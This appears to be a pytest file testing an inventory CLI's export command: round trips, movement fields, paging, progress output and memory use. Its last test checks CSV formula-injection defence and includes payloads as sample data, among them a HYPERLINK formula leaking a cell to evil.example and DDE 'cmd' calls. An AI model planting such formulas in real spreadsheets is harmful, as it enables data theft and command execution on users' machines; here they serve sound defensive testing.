"""`export`: products and levels that import back as they were, movements with every field,
`--after` and `--out`, data on stdout with no progress in it, progress on a terminal, and
constant memory over a million movements."""

import csv
import io
import json
import os
import pty
import subprocess
import time

from conftest import BIN, clean_env, cli, export, export_json, export_rows, new_product, write


def build_catalogue(server):
    """Products whose text needs quoting and whose prices need their exact scale, with stock
    at several locations (one of them emptied), through the API."""
    made = []
    for i, (name, description, price, reorder) in enumerate(
        [
            ('Laptop, 16" "Pro"', "Line one\nline two, with a comma", "1500.00", 5),
            ("Ünïcode ✓ naïve café", "", "0.0001", None),
            ("Plain", "Tab\there; semicolon;", "99999999999.9999", 0),
            ("=cmd|' /C calc'!A0", "leading = stays text", "12", None),
        ]
    ):
        body = {
            "name": name,
            "sku": f"RT-{i}",
            "description": description,
            "price": price,
            "location": "Warehouse A",
            "initial_quantity": 10 * (i + 1),
        }
        if reorder is not None:
            body["reorder_point"] = reorder
        made.append(new_product(server, **body)["product"])
    first = made[0]["id"]
    r = server.post(f"/api/products/{first}/stock/transfer", {"from_location": "Warehouse A", "to_location": "Shop", "quantity": 4})
    assert r.status_code == 200, r.text
    r = server.post(f"/api/products/{made[1]['id']}/stock/transfer", {"from_location": "Warehouse A", "to_location": "Back room", "quantity": 20})
    assert r.status_code == 200, r.text
    assert server.delete(f"/api/products/{made[3]['id']}").status_code in (200, 204)
    return made


def test_products_and_levels_round_trip_into_an_empty_file(tmp_path, start):
    server = start()
    build_catalogue(server)
    server.stop()
    source = server.db
    for fmt, ext in [("csv", "csv"), ("jsonl", "jsonl")]:
        target = tmp_path / f"copy-{fmt}.db"
        products, levels = tmp_path / f"products.{ext}", tmp_path / f"levels.{ext}"
        cli("export", "products", "--db", source, "--out", products, check=0)
        cli("export", "levels", "--db", source, "--out", levels, check=0)
        cli("import", "products", products, "--db", target, check=0)
        cli("import", "levels", levels, "--db", target, check=0)
        for what in ("products", "levels"):
            for out_format in ("csv", "jsonl"):
                assert export(target, what, "--format", out_format) == export(source, what, "--format", out_format), (fmt, what)
        cli("verify", "--db", target, check=0)
    rows = export_rows(source, "products")
    assert [r["sku"] for r in rows] == ["RT-0", "RT-1", "RT-2"], "archived products are not exported"
    assert [r["price"] for r in rows] == ["1500.00", "0.0001", "99999999999.9999"]
    assert rows[0]["name"] == 'Laptop, 16" "Pro"' and rows[0]["description"] == "Line one\nline two, with a comma"
    assert [r["reorder_point"] for r in rows] == ["5", "", "0"]
    levels = [(r["sku"], r["location"], r["counted"]) for r in export_rows(source, "levels")]
    assert levels == [
        ("RT-0", "Shop", "4"),
        ("RT-0", "Warehouse A", "6"),
        ("RT-1", "Back room", "20"),
        ("RT-1", "Warehouse A", "0"),
        ("RT-2", "Warehouse A", "30"),
    ]


def test_movements_carry_every_field_and_match_the_api(tmp_path, start):
    server = start()
    made = build_catalogue(server)
    feed = server.get("/api/events?after=0&limit=1000").json()["data"]["movements"]
    server.stop()
    exported = export_json(server.db, "movements")
    assert len(exported) == len(feed) > 5
    assert list(exported[0]) == [
        "seq", "id", "inventory_id", "product_id", "location", "kind", "quantity",
        "on_hand_after", "reserved_after", "reference", "notes", "external_id", "transfer_id",
        "actor", "created_at",
    ]
    assert [m["seq"] for m in exported] == list(range(1, len(exported) + 1))
    for mine, api in zip(exported, feed):
        assert mine["seq"] == api["seq"] and mine["id"] == api["id"]
        assert mine["product_id"] == api["product_id"] and mine["location"] == api["location"]
        assert mine["kind"] == api["type"] and mine["quantity"] == api["quantity"]
        assert mine["transfer_id"] == api.get("transfer_id")
        assert mine["external_id"] == api["external_id"]
        assert "actor" in mine
    transfer = [m for m in exported if m["kind"].startswith("TRANSFER")]
    assert len(transfer) == 4 and transfer[0]["transfer_id"] == transfer[1]["transfer_id"]
    rows = export_rows(server.db, "movements")
    assert [int(r["seq"]) for r in rows] == [m["seq"] for m in exported]
    assert rows[0]["product_id"] == made[0]["id"] and rows[0]["notes"] == "initial quantity"


def test_after_continues_an_earlier_export_and_out_writes_a_whole_file(tmp_path, start):
    server = start()
    build_catalogue(server)
    server.stop()
    full = export_rows(server.db, "movements")
    cut = len(full) // 2
    rest = list(csv.DictReader(io.StringIO(export(server.db, "movements", "--after", full[cut - 1]["seq"]))))
    assert full[:cut] + rest == full
    assert export(server.db, "movements", "--after", full[-1]["seq"]).splitlines() == [",".join(full[0].keys())]
    proc = cli("export", "movements", "--db", server.db, "--after=-1", check=1)
    assert "after must not be negative" in proc.stderr
    out = tmp_path / "ledger.jsonl"
    proc = cli("export", "movements", "--db", server.db, "--out", out, check=0)
    assert proc.stdout == "" and proc.stderr == ""
    assert [json.loads(l)["seq"] for l in out.read_text().splitlines()] == [int(r["seq"]) for r in full]
    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name]
    # A failed export leaves what was at --out alone.
    proc = cli("export", "movements", "--db", tmp_path / "missing.db", "--out", out, check=1)
    assert "no database at" in proc.stderr and out.read_text().startswith('{"seq":1,')
    assert not (tmp_path / "missing.db").exists()


def test_stdout_carries_only_data_and_a_terminal_gets_progress(tmp_path, start):
    server = start()
    build_catalogue(server)
    server.stop()
    piped = cli("export", "movements", "--db", server.db, check=0)
    assert piped.stderr == ""
    assert "\r" not in piped.stdout and "\x1b" not in piped.stdout
    # With stderr on a terminal (a pty) the bar is drawn there, and the data is unchanged.
    command = [BIN, "export", "movements", "--db", server.db]
    out = tmp_path / "out.csv"
    with open(out, "w") as stdout:
        drawn = read_pty(command, stdout)
    assert out.read_text() == piped.stdout
    assert b"movements" in drawn and b"=" in drawn, drawn
    # The same with --out.
    drawn = read_pty(command + ["--out", tmp_path / "out2.csv"], subprocess.DEVNULL)
    assert (tmp_path / "out2.csv").read_text() == piped.stdout
    assert b"movements" in drawn and b"=" in drawn, drawn
    # Records written to the terminal itself get no bar drawn over them.
    assert read_pty(command, None).replace(b"\r\n", b"\n") == piped.stdout.encode()


def read_pty(command, stdout):
    """Runs `command` with stderr on a new pty, and stdout there too if `stdout` is None;
    returns what was written to the pty."""
    main, side = pty.openpty()
    proc = subprocess.Popen(
        command,
        stdout=side if stdout is None else stdout,
        stderr=side,
        stdin=subprocess.DEVNULL,
        env=clean_env(TERM="xterm"),
    )
    os.close(side)
    drawn = b""
    while True:
        try:
            chunk = os.read(main, 4096)
        except OSError:  # the pty closes with the process
            break
        if not chunk:
            break
        drawn += chunk
    assert proc.wait(60) == 0
    os.close(main)
    return drawn


def test_a_million_movements_export_in_constant_memory(tmp_path, db):
    cli("import", "products", write(tmp_path / "p.csv", "sku,name,price\nM-1,Counted often,1\n"), "--db", db, check=0)
    # A million ADJUST movements, through the engine: counts alternating 1 and 2, in files of
    # 200,000 rows (each file one transaction).
    rows = 200_000
    body = "".join(f"M-1,default,{1 + i % 2}\n" for i in range(rows))
    counts = write(tmp_path / "counts.csv", "sku,location,counted\n" + body)
    for _ in range(5):
        cli("import", "levels", counts, "--db", db, check=0)
    out, rss = tmp_path / "movements.csv", tmp_path / "rss"
    started = time.monotonic()
    # GNU time reports the peak RSS of the program alone: the rusage of a child of this process
    # would count the pages it shared with pytest between fork and exec.
    cli("/usr/bin/time", "-f", "%M", "-o", rss, BIN, "export", "movements", "--db", db, "--out", out, check=0, raw=True)
    elapsed = time.monotonic() - started
    with open(out) as f:
        lines = sum(1 for _ in f)
    assert lines == 1 + 5 * rows
    peak_mib = int(rss.read_text().split()[-1]) / 1024  # KiB
    print(f"exported {5 * rows} movements in {elapsed:.1f} s, peak RSS {peak_mib:.1f} MiB")
    assert peak_mib < 64, f"peak RSS {peak_mib:.1f} MiB"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTabbed",
    "'=already quoted",
]


def test_csv_export_neutralises_formulas_and_import_takes_them_back(tmp_path, db):
    """OWASP's rule: a text cell beginning with =, +, -, @, a tab or a carriage return gets a
    leading ' in CSV (a spreadsheet shows it rather than running it); numbers, JSON Lines and
    --raw-csv are left as stored, and a CSV export imports back exactly. (A carriage return is
    in the unit tests of formula.rs: text-mode pipes here would turn it into a newline.)"""
    rows = [
        {"sku": f"F-{i}", "name": f"{text} name", "description": text, "price": "1", "location": f"{text} loc", "initial_quantity": 1}
        for i, text in enumerate(FORMULAS)
    ]
    cli("import", "products", write(tmp_path / "p.jsonl", "".join(json.dumps(r) + "\n" for r in rows)), "--db", db, check=0)
    # A count below on hand is an ADJUST with a negative quantity: a number, never quoted.
    cli("import", "levels", write(tmp_path / "=counts.csv", "sku,location,counted\nF-3,-2+3 loc,0\n"), "--db", db, check=0)
    stored = export_json(db, "products")
    # Descriptions are stored as given, tabs and carriage returns included (names and
    # locations are trimmed by the engine).
    assert [p["description"] for p in stored] == FORMULAS

    exported = export_rows(db, "products")
    for column in ("name", "description", "location"):
        assert [r[column] for r in exported] == ["'" + p[column] if p[column][0] in "=+-@\t\r'" else p[column] for p in stored], column
    assert [r["description"] for r in exported] == ["'" + t for t in FORMULAS]
    assert [r["price"] for r in exported] == ["1"] * len(FORMULAS)
    [level] = [r for r in export_rows(db, "levels") if r["sku"] == "F-3"]
    assert (level["location"], level["counted"]) == ("'-2+3 loc", "0")
    [adjust] = [m for m in export_rows(db, "movements") if m["kind"] == "ADJUST"]
    assert (adjust["quantity"], adjust["reference"], adjust["location"]) == ("-1", "import:=counts.csv", "'-2+3 loc")
    # JSON Lines is raw, and so is CSV with --raw-csv.
    assert [r["description"] for r in stored] == FORMULAS
    raw = list(csv.DictReader(io.StringIO(export(db, "products", "--raw-csv"))))
    assert [r["description"] for r in raw] == FORMULAS

    # The round trip is exact: a neutralised export imports as the text it stands for.
    products, levels = tmp_path / "products.csv", tmp_path / "levels.csv"
    cli("export", "products", "--db", db, "--out", products, check=0)
    cli("export", "levels", "--db", db, "--out", levels, check=0)
    copy = tmp_path / "copy.db"
    cli("import", "products", products, "--db", copy, check=0)
    cli("import", "levels", levels, "--db", copy, check=0)
    assert export(copy, "products", "--format", "jsonl") == export(db, "products", "--format", "jsonl")
    assert export(copy, "levels", "--format", "jsonl") == export(db, "levels", "--format", "jsonl")
    # Imported with --raw-csv, the quote is kept as text.
    raw_copy = tmp_path / "raw.db"
    cli("import", "products", products, "--db", raw_copy, "--raw-csv", check=0)
    assert [r["description"] for r in export_json(raw_copy, "products")] == ["'" + t for t in FORMULAS]
